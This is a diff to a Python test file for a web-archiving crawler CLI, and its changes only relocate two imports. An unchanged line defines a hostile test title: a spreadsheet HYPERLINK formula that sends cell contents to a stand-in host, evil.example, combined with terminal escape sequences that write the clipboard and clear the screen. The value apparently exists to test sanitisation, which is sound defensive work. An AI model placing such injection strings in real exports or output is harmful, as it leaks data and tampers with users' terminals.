@@ -16,8 +16,8 @@ import pytest
 from click.testing import CliRunner, Result
 
 from archiver.cli import cli
+from archiver.crawler.overrides import unknown_setting_warning
 from archiver.items import ArticleItem, PageCapture
-from archiver.overrides import unknown_setting_warning
 from archiver.store import Archive
 
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"x")\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m'
@@ -276,7 +276,7 @@ def test_bad_setting_values_stop_before_the_crawl(tmp_path: Path, setting: str, 
 
 
 def test_good_setting_values_pass(tmp_path: Path) -> None:
-    from archiver.crawl import parse_overrides
+    from archiver.crawler.run import parse_overrides
 
     given = [
         "DOWNLOAD_DELAY=0.5",
